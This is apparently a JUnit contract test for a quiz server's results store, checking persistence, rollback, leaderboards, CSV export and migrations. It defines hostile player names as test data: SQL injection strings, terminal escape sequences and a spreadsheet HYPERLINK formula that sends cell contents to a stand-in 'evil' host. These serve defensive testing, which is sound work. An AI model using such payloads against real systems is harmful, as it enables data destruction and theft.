package dev.tlsquiz.server.results.store;

import static dev.tlsquiz.server.results.store.TestGames.T0;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tlsquiz.codec.AnswerFormat;
import dev.tlsquiz.server.game.Judgement;
import dev.tlsquiz.server.results.export.ExportFormat;
import dev.tlsquiz.server.results.export.ExportWriter;
import dev.tlsquiz.server.results.query.GameFilter;
import dev.tlsquiz.server.results.query.GameSummary;
import dev.tlsquiz.server.results.query.LeaderboardOrder;
import dev.tlsquiz.server.results.query.LeaderboardRow;
import dev.tlsquiz.server.services.AnswerRecord;
import dev.tlsquiz.server.services.GameRecord;
import dev.tlsquiz.server.services.PlayerRecord;
import dev.tlsquiz.server.services.QuestionRecord;
import java.io.StringReader;
import java.io.StringWriter;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.function.UnaryOperator;
import javax.sql.DataSource;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * What every results database must do, run against SQLite ({@link SqliteGameStoreTest}) and PostgreSQL
 * ({@link PostgresGameStoreTest}) alike. Each test starts from an empty, freshly migrated database.
 */
abstract class GameStoreContractTest {

    /** Names a player may choose: SQL, quotes, terminal escapes, formulas, emoji, NUL, half a surrogate. */
    static final String INJECTION = "x'); DROP TABLE games;--";
    static final String HOSTILE_NAMES = "\"; DELETE FROM players; --";
    static final String ESCAPES = "\u001b[2J\u001b]52;c;ZXZpbA==\u0007ev\u202eil";
    static final String FORMULA = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")";
    static final String ODD = "zo\u00eb \uD83E\uDDD1\u200D\uD83D\uDCBB nul\u0000 half\uD800";

    ResultsStore store;
    /** Whether there is a database to wipe after the test (not when the test was skipped). */
    private boolean opened;

    /** A fresh, empty location for this test. */
    abstract DatabaseLocation location() throws Exception;

    /** A plain connection to the same database, to look under the store. */
    abstract Connection connect() throws SQLException;

    /** A plain data source on the same database, for Flyway run by hand. */
    abstract DataSource dataSource();

    abstract Dialect dialect();

    /**
     * Makes the database itself refuse an answer with this text (a trigger), as a full disk or a lost
     * connection would refuse a statement halfway through a game.
     */
    abstract void refuseAnswersWithText(Connection connection, String text) throws SQLException;

    /** Empties the database after a test (drops every table, Flyway's too). */
    abstract void wipe() throws Exception;

    @BeforeEach
    void open() throws Exception {
        DatabaseLocation location = location();
        opened = true;
        store = GameStores.open(location);
    }

    @AfterEach
    void close() throws Exception {
        if (store != null) {
            store.close();
        }
        if (opened) {
            wipe();
        }
    }

    @Test
    void save_whenRead_thenTheSameGameComesBack() throws Exception {
        GameRecord room = TestGames.room(0x1234abcdL, "K7QX", T0, "ada", "~bob", "~cy");
        GameRecord solo = TestGames.solo(-5L, "~dee", T0.plusSeconds(60), 4, 3);

        store.save(room);
        store.save(solo);

        assertEquals(List.of(room), store.games(0x1234abcdL));
        assertEquals(List.of(solo), store.games(-5L));
        assertEquals(List.of(), store.games(77L));
    }

    @Test
    void save_whenSavedAgain_thenKeptOnce() throws Exception {
        GameRecord game = TestGames.room(42, "K7QX", T0, "ada", "~bob", "~cy");

        store.save(game);
        store.save(game);

        assertEquals(1, store.games(GameFilter.all()).size());
        assertEquals(3, count("players"));
        assertEquals(8, count("answers"));
        assertEquals(3, count("choices"));
    }

    @Test
    void saveAll_whenSomeAlreadyKept_thenTheRestKeptInOneGo() throws Exception {
        GameRecord first = TestGames.solo(1, "~ann", T0, 2, 1);
        GameRecord second = TestGames.room(2, "R", T0.plusSeconds(1), "ada", "~bob", "~cy");
        store.save(first);

        store.saveAll(List.of(first, second));

        assertEquals(List.of(first), store.games(1));
        assertEquals(List.of(second), store.games(2));
        assertEquals(2, count("games"));
    }

    @Test
    void saveAll_whenSeveralGamesWithChoicesInOneGroup_thenEachKeepsItsOwnRows() throws Exception {
        List<GameRecord> group = new ArrayList<>();
        for (int i = 0; i < 20; i++) {
            group.add(i % 2 == 0 ? TestGames.room(100 + i, "R" + i, T0.plusSeconds(i), "ada" + i, "~bob", "~cy" + i)
                    : TestGames.solo(100 + i, "~p" + i, T0.plusSeconds(i), 1 + i % 4, i % 3));
        }

        store.saveAll(group);

        for (GameRecord game : group) {
            assertEquals(List.of(game), store.games(game.gameId()));
        }
    }

    @Test
    void saveAll_whenTheSameGameTwiceInOneGroup_thenKeptOnce() throws Exception {
        GameRecord game = TestGames.room(7, "K7QX", T0, "ada", "~bob", "~cy");

        store.saveAll(List.of(game, TestGames.solo(8, "~ann", T0, 2, 1), game));

        assertEquals(List.of(game), store.games(7));
        assertEquals(2, count("games"));
        assertEquals(8 + 2, count("answers"));
        assertEquals(3, count("choices"));
    }

    @Test
    void saveAll_whenOneGameContradictsItself_thenNoneKept() throws Exception {
        GameRecord good = TestGames.solo(1, "~ann", T0, 2, 1);
        GameRecord bad = new GameRecord(2, good.kind(), good.instance(), null, good.settings(), good.started(), good.ended(),
                good.endReason(), good.players(), good.questions(),
                List.of(new AnswerRecord(0, 99, "2", Judgement.CORRECT, 10, 5)));

        IllegalArgumentException refused = assertThrows(IllegalArgumentException.class, () -> store.saveAll(List.of(good, bad)));

        assertTrue(refused.getMessage().contains("question 99, which the game did not ask"), refused.getMessage());
        assertEquals(0, count("games"));
    }

    @Test
    void save_whenSameIdFromAnotherInstance_thenBothKept() throws Exception {
        GameRecord a = TestGames.solo(42, "~ann", T0, 2, 1);
        GameRecord b = new GameRecord(42, a.kind(), "quiz-b", null, a.settings(), a.started(), a.ended(), "client disconnected",
                a.players(), a.questions(), a.answers());

        store.save(a);
        store.save(b);

        assertEquals(List.of(a, b), store.games(42));
    }

    @Test
    void save_whenNamesAndAnswersAreHostile_thenKeptAsTextAndFoundByBoundParameters() throws Exception {
        List<String> names = List.of(INJECTION, HOSTILE_NAMES, ESCAPES, FORMULA, ODD);
        List<PlayerRecord> players = new ArrayList<>();
        List<AnswerRecord> answers = new ArrayList<>();
        for (int i = 0; i < names.size(); i++) {
            players.add(new PlayerRecord(names.get(i), false, null, null, 10 - i, i + 1, 0, 1));
            answers.add(new AnswerRecord(i, 1, names.get((i + 1) % names.size()), Judgement.WRONG, 0, 10));
        }
        GameRecord game = new GameRecord(7, GameRecord.GameKind.ROOM, "quiz-a", INJECTION, ESCAPES, T0.minusSeconds(5), T0,
                FORMULA, players, List.of(new QuestionRecord(1, ODD, AnswerFormat.TEXT, List.of(), INJECTION)), answers);

        store.save(game);

        GameRecord back = store.games(7).get(0);
        assertEquals(INJECTION, back.players().get(0).name());
        assertEquals(ESCAPES, back.players().get(2).name());
        assertEquals(FORMULA, back.endReason());
        assertEquals(INJECTION, back.roomCode());
        // U+0000 and a lone surrogate cannot be stored (PostgreSQL refuses the first): both become U+FFFD.
        assertEquals(StoredText.of(ODD), back.players().get(4).name());
        assertEquals("zo\u00eb \uD83E\uDDD1\u200D\uD83D\uDCBB nul\uFFFD half\uFFFD", StoredText.of(ODD));
        assertEquals(StoredText.of(ODD), back.questions().get(0).text());
        for (String name : names) {
            GameFilter byPlayer = new GameFilter(null, null, name, 0);
            assertEquals(1, store.games(byPlayer).size(), name);
        }
        assertEquals(1, store.games(new GameFilter(null, INJECTION, null, 0)).size());
        assertEquals(0, store.games(new GameFilter(null, "x' OR '1'='1", null, 0)).size());
        assertEquals(0, store.games(new GameFilter(null, null, "x' OR '1'='1", 0)).size());
        assertEquals(1, count("games"), "the games table is still there, with its game");
    }

    @Test
    void save_whenTheGameEndedBeforeAnyQuestion_thenKeptWithNoQuestionsAndNoAnswers() throws Exception {
        GameRecord empty = new GameRecord(11, GameRecord.GameKind.ROOM, "quiz-a", "EMPTY", "bank=maths.gift",
                T0.minusSeconds(5), T0, "host ended", List.of(new PlayerRecord("ada", false, null, null, 0, 1, 0, 0)),
                List.of(), List.of());
        GameRecord nobody = new GameRecord(12, GameRecord.GameKind.ROOM, "quiz-a", "NOBODY", "bank=maths.gift",
                T0.minusSeconds(5), T0, "host ended", List.of(), List.of(), List.of());

        store.saveAll(List.of(empty, nobody));

        assertEquals(List.of(empty), store.games(11));
        assertEquals(List.of(nobody), store.games(12));
        assertEquals(0, count("questions"));
        assertEquals(0, count("answers"));
    }

    /** A crowd's game: thousands of rows, and text of every width, in one group with a small game. */
    @Test
    void saveAll_whenAGameIsLarge_thenKeptWholeBesideASmallOne() throws Exception {
        List<PlayerRecord> players = new ArrayList<>();
        List<QuestionRecord> questions = new ArrayList<>();
        List<AnswerRecord> answers = new ArrayList<>();
        for (int p = 0; p < 150; p++) {
            players.add(new PlayerRecord("player " + p + " \u00e9\uD83D\uDE00".repeat(p % 7), p % 2 == 0, null, null,
                    1000 - p, p + 1, p % 20, 20));
        }
        for (int q = 1; q <= 20; q++) {
            questions.add(new QuestionRecord(q, "question " + q + " " + "x".repeat(q * 100), AnswerFormat.ONE_CHOICE,
                    List.of("yes " + q, "no " + q, "maybe " + q), "a) yes " + q));
            for (int p = 0; p < players.size(); p++) {
                boolean timedOut = (p + q) % 9 == 0;
                answers.add(new AnswerRecord(p, q, timedOut ? null : "answer " + "y".repeat((p * q) % 300),
                        timedOut ? Judgement.TIMEOUT : Judgement.WRONG, 0, 100L * p + q));
            }
        }
        GameRecord large = new GameRecord(21, GameRecord.GameKind.ROOM, "quiz-a", "BIG1", "bank=big.gift",
                T0.minusSeconds(600), T0, "completed", players, questions, answers);
        GameRecord small = TestGames.solo(22, "~dee", T0, 3, 2);

        store.saveAll(List.of(small, large));

        assertEquals(List.of(large), store.games(21));
        assertEquals(List.of(small), store.games(22));
        assertEquals(3000 + 3, count("answers"));
        assertEquals(60, count("choices"));
    }

    /**
     * Text in the forms that mean something to PostgreSQL's array syntax (braces, quotes, backslashes,
     * commas, blanks, the bare word NULL) or to COPY's text format: its writer sends a group's game rows
     * as arrays and the rest by binary COPY. Such text is kept as sent.
     */
    @Test
    void saveAll_whenTextLooksLikeArraySyntax_thenKeptExactlyAsSent() throws Exception {
        List<String> texts = List.of("NULL", "null", "{a,b}", "{}", "\"quoted\"", "back\\slash\\", "a,b", " spaced ",
                "", "}{\"\\,NULL", "ARRAY[1]", "'{NULL}'::text[]", "\\N", "tab\there", "line\nbreak\r\n", "\\.");
        List<GameRecord> group = new ArrayList<>();
        for (int i = 0; i < texts.size(); i++) {
            String text = texts.get(i);
            group.add(new GameRecord(300 + i, GameRecord.GameKind.ROOM, "quiz-a", text, text, T0.minusSeconds(5), T0,
                    text, List.of(new PlayerRecord(text, false, text, text, 1, 1, 0, 1)),
                    List.of(new QuestionRecord(1, text, AnswerFormat.ONE_CHOICE, List.of(text, text + "2"), text)),
                    List.of(new AnswerRecord(0, 1, text, Judgement.WRONG, 0, 10))));
        }

        store.saveAll(group);

        for (GameRecord game : group) {
            assertEquals(List.of(game), store.games(game.gameId()), "kept as sent: [" + game.roomCode() + "]");
        }
    }

    @Test
    void save_whenTheDatabaseRefusesAStatementHalfway_thenNothingOfTheGameIsKeptAndTheStoreGoesOn() throws Exception {
        try (Connection connection = connect()) {
            refuseAnswersWithText(connection, "3.14");
        }
        GameRecord refused = TestGames.room(1, "R1", T0, "ada", "~bob", "~cy");
        GameRecord fine = TestGames.solo(2, "~dee", T0, 2, 1);

        dev.tlsquiz.server.results.GameStoreException failure =
                assertThrows(dev.tlsquiz.server.results.GameStoreException.class, () -> store.save(refused));
        store.save(fine);

        assertTrue(failure.getMessage().startsWith("cannot keep game 1 ("), failure.getMessage());
        assertEquals(1, count("games"));
        assertEquals(1, count("players"));
        assertEquals(0, count("choices"), "the refused game's choices were rolled back with it");
        assertEquals(2, count("answers"));
        assertEquals(List.of(), store.games(1));
        assertThrows(dev.tlsquiz.server.results.GameStoreException.class, () -> store.saveAll(List.of(refused)));
        assertEquals(1, count("games"));
    }

    @Test
    void save_whenAnswerPointsAtNoPlayer_thenRefusedAndNothingKept() throws Exception {
        GameRecord good = TestGames.solo(9, "~ann", T0, 2, 1);
        GameRecord bad = new GameRecord(9, good.kind(), good.instance(), null, good.settings(), good.started(), good.ended(),
                good.endReason(), good.players(), good.questions(),
                List.of(new AnswerRecord(3, 1, "2", Judgement.CORRECT, 10, 5)));

        IllegalArgumentException refused = assertThrows(IllegalArgumentException.class, () -> store.save(bad));

        assertTrue(refused.getMessage().contains("player 3"), refused.getMessage());
        assertEquals(0, count("games"));
    }

    @Test
    void games_whenFiltered_thenOnlyTheSelectedMostRecentFirst() throws Exception {
        store.save(TestGames.room(1, "ROOM1", T0, "ada", "~bob", "~cy"));
        store.save(TestGames.room(2, "ROOM2", T0.plusSeconds(10), "~bob", "~cy", "~dee"));
        store.save(TestGames.solo(3, "ada", T0.plusSeconds(20), 3, 3));

        assertEquals(List.of(3L, 2L, 1L), ids(store.games(GameFilter.all())));
        assertEquals(List.of(3L, 2L), ids(store.games(GameFilter.all().withLimit(2))));
        assertEquals(List.of(2L, 1L), ids(store.games(new GameFilter(null, null, "~bob", 0))));
        assertEquals(List.of(3L, 1L), ids(store.games(new GameFilter(null, null, "ada", 0))));
        assertEquals(List.of(2L), ids(store.games(new GameFilter(null, "ROOM2", null, 0))));
        assertEquals(List.of(3L, 2L), ids(store.games(new GameFilter(T0.plusSeconds(10), null, null, 0))));

        GameSummary room = store.games(new GameFilter(null, "ROOM1", null, 0)).get(0);
        assertEquals(new GameSummary("quiz-a", 1, GameRecord.GameKind.ROOM, "ROOM1", T0.minusSeconds(90), T0, "completed",
                3, 3, "ada", 300), room);
    }

    @Test
    void leaderboard_whenByScore_thenTotalsWithSharedRanks() throws Exception {
        store.save(TestGames.room(1, "R", T0, "ada", "~bob", "~cy"));          // ada 300, bob 100, cy 100
        store.save(TestGames.solo(2, "~bob", T0.plusSeconds(10), 4, 2));          // bob +20
        store.save(TestGames.solo(3, "~cy", T0.plusSeconds(20), 4, 2));           // cy +20

        List<LeaderboardRow> top = store.leaderboard(GameFilter.all(), LeaderboardOrder.SCORE);

        assertEquals(List.of(
                new LeaderboardRow(1, "ada", 1, 300, 3, 3, 3),
                new LeaderboardRow(2, "~bob", 2, 120, 3, 6, 7),
                new LeaderboardRow(2, "~cy", 2, 120, 3, 6, 6)), top);
        assertEquals(List.of(new LeaderboardRow(1, "~bob", 1, 20, 2, 4, 4), new LeaderboardRow(1, "~cy", 1, 20, 2, 4, 4)),
                store.leaderboard(new GameFilter(T0.plusSeconds(5), null, null, 0), LeaderboardOrder.SCORE));
        assertEquals(1, store.leaderboard(GameFilter.all().withLimit(1), LeaderboardOrder.SCORE).size());
    }

    @Test
    void leaderboard_whenByAccuracy_thenRightAnswersOverQuestionsPut() throws Exception {
        store.save(TestGames.solo(1, "~half", T0, 4, 2));
        store.save(TestGames.solo(2, "~all", T0, 2, 2));
        store.save(TestGames.solo(3, "~most", T0, 4, 3));
        store.save(TestGames.solo(4, "~alsohalf", T0, 8, 4));

        List<LeaderboardRow> top = store.leaderboard(GameFilter.all(), LeaderboardOrder.ACCURACY);

        assertEquals(List.of("~all", "~most", "~alsohalf", "~half"), top.stream().map(LeaderboardRow::name).toList());
        assertEquals(List.of(1, 2, 3, 3), top.stream().map(LeaderboardRow::rank).toList());
        assertEquals(0.75, top.get(1).accuracy());
    }

    @Test
    void export_whenWrittenAsCsvAndParsedBack_thenEqualsWhatWasPlayed() throws Exception {
        List<GameRecord> games = List.of(
                TestGames.room(1, "R1", T0, "ada", "~bob", "~cy"),
                TestGames.solo(2, "~dee", T0.plusSeconds(30), 3, 2),
                TestGames.room(3, "R2", T0.plusSeconds(60), FORMULA, "-1+1", ESCAPES));
        for (GameRecord game : games) {
            store.save(game);
        }

        List<List<String>> parsed = exportCsv(GameFilter.all());

        assertEquals(ExpectedExport.csvCells(games), parsed);
        assertEquals(3 * 3 + 3 + 3 * 3, parsed.size(), "one row per player per question");
        assertTrue(parsed.stream().anyMatch(row -> row.get(6).equals("'" + FORMULA)), "formula neutralised");
        assertTrue(parsed.stream().anyMatch(row -> row.get(6).equals("'-1+1")), "formula neutralised");
    }

    @Test
    void export_whenFilteredByPlayer_thenOnlyTheirRows() throws Exception {
        List<GameRecord> games = List.of(TestGames.room(1, "R1", T0, "ada", "~bob", "~cy"),
                TestGames.solo(2, "~dee", T0.plusSeconds(30), 3, 2));
        for (GameRecord game : games) {
            store.save(game);
        }

        List<List<String>> parsed = exportCsv(new GameFilter(null, null, "~bob", 0));

        assertEquals(3, parsed.size());
        assertTrue(parsed.stream().allMatch(row -> row.get(6).equals("~bob")), parsed::toString);
        assertEquals(List.of("", "timeout", "0", "20000"), parsed.get(2).subList(15, 19));
    }

    @Test
    void prune_whenOlderGamesExist_thenTheyGoWithEverythingInThem() throws Exception {
        store.save(TestGames.room(1, "OLD", T0, "ada", "~bob", "~cy"));
        store.save(TestGames.room(2, "NEW", T0.plus(Duration.ofDays(100)), "ada", "~bob", "~cy"));

        int pruned = store.prune(T0.plus(Duration.ofDays(10)));

        assertEquals(1, pruned);
        assertEquals(List.of(2L), ids(store.games(GameFilter.all())));
        assertEquals(3, count("players"));
        assertEquals(3, count("questions"));
        assertEquals(3, count("choices"));
        assertEquals(8, count("answers"));
        assertEquals(0, store.prune(T0));
    }

    @Test
    void open_whenReopened_thenGamesAreStillThere() throws Exception {
        GameRecord game = TestGames.solo(5, "~ann", T0, 2, 2);
        store.save(game);
        store.close();

        store = GameStores.open(location());

        assertEquals(List.of(game), store.games(5));
    }

    @Test
    void open_whenSchemaIsNewerThanThisVersion_thenRefusedWithClearMessage() throws Exception {
        store.close();
        store = null;
        SchemaMigrations.configure(dataSource(), dialect())
                .locations(dialect().migrations(), "classpath:db/results-future")
                .load().migrate();

        NewerSchemaException refused = assertThrows(NewerSchemaException.class, () -> GameStores.open(location()));

        assertEquals("99", refused.databaseVersion());
        assertEquals("version 4", refused.knownVersion());
        assertTrue(refused.getMessage().contains("has schema version 99, newer than the version 4 this tlsquiz knows"),
                refused.getMessage());
        assertTrue(refused.getMessage().contains("Run that newer version"), refused.getMessage());
    }

    @Test
    void open_whenFresh_thenSchemaHistoryRecordsEveryVersion() throws Exception {
        assertEquals(List.of("1", "2", "3", "4"), schemaVersions());
    }

    @Test
    void open_whenAtVersion1WithGamesKept_thenMigratedAndEveryGameReadsBackTheSame() throws Exception {
        store.close();
        store = null;
        wipe();
        SchemaMigrations.configure(dataSource(), dialect()).target("1").load().migrate();
        GameRecord room = TestGames.room(0x51, "K7QX", T0, "ada", "~bob", "~cy");
        GameRecord solo = TestGames.solo(0x52, "~dee", T0.plusSeconds(60), 4, 3);
        try (Connection connection = connect()) {
            connection.setAutoCommit(false);
            Version1Rows.write(connection, room);
            Version1Rows.write(connection, solo);
            connection.commit();
        }

        store = GameStores.open(location());

        assertEquals(List.of("1", "2", "3", "4"), schemaVersions());
        assertEquals(List.of(room), store.games(0x51));
        assertEquals(List.of(solo), store.games(0x52));
        assertEquals(1, store.prune(T0.plusSeconds(1)));
        assertEquals(List.of(), store.games(0x51));
        assertEquals(List.of(solo), store.games(0x52));
        assertEquals(4, count("answers"), "prune takes the pruned game's rows with it, and only those");
    }

    /** The first column of every row {@code query} returns, as text: to look under the store. */
    static List<String> column(Statement statement, String query) throws SQLException {
        List<String> values = new ArrayList<>();
        try (ResultSet rows = statement.executeQuery(query)) {
            while (rows.next()) {
                values.add(rows.getString(1));
            }
        }
        return values;
    }

    private List<String> schemaVersions() throws SQLException {
        List<String> versions = new ArrayList<>();
        try (Connection connection = connect(); Statement statement = connection.createStatement();
             ResultSet rows = statement.executeQuery("SELECT version FROM " + SchemaMigrations.HISTORY_TABLE
                     + " WHERE success ORDER BY installed_rank")) {
            while (rows.next()) {
                versions.add(rows.getString(1));
            }
        }
        return versions;
    }

    List<List<String>> exportCsv(GameFilter filter) throws Exception {
        StringWriter out = new StringWriter();
        try (ExportWriter writer = ExportWriter.of(ExportFormat.CSV, out, UnaryOperator.identity())) {
            store.export(filter, writer::write);
        }
        List<List<String>> rows = new ArrayList<>();
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(out.toString()))) {
            assertEquals(List.of(dev.tlsquiz.server.results.query.ExportRow.COLUMNS), parser.getHeaderNames());
            for (CSVRecord record : parser) {
                rows.add(record.toList());
            }
        }
        assertTrue(out.toString().isEmpty() || out.toString().endsWith("\r\n"), "RFC 4180 line ends");
        return rows;
    }

    long count(String table) throws SQLException {
        try (Connection connection = connect(); Statement statement = connection.createStatement();
             ResultSet rows = statement.executeQuery("SELECT COUNT(*) FROM " + table)) {
            rows.next();
            return rows.getLong(1);
        }
    }

    private static List<Long> ids(List<GameSummary> games) {
        return games.stream().map(GameSummary::gameId).toList();
    }
}
